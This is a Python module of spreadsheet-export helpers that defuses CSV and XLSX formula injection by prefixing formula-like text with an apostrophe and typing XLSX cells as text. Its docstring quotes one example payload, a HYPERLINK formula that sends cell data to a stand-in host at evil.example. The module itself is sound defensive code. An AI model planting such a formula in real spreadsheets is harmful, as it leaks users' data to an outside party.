"""Spreadsheet cells that stay what they are: user text never becomes a formula.

A customer name, a statement or a key person's note that starts with `=`, `+`, `-`, `@`,
a tab or a carriage return is read as a formula by Excel and LibreOffice when it lands in a
CSV or a formula cell (`=HYPERLINK("http://evil.example/?"&A1,"Click")` sends the sheet
away). Every export writes its cells through these helpers: CSV cells get a leading `'`,
XLSX text cells are typed as text. Numbers stay numbers, negative amounts included.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain number written as text ("-120.50" from an ERP file) is no formula: left alone.
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def inert_text(value: str) -> str:
    """`value` with a leading `'` when a spreadsheet would read it as a formula."""
    if value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """One CSV row whose text cells are inert; other values unchanged."""
    return [inert_text(v) if isinstance(v, str) else v for v in values]


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """One row for `sheet.append` (openpyxl, normal or write-only) whose text cells are
    text cells, never formulas; characters XLSX cannot hold (C0 controls) are dropped."""
    from openpyxl.cell import WriteOnlyCell  # loaded only by the exports that need it
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    row: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", value))
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(value)
    return row
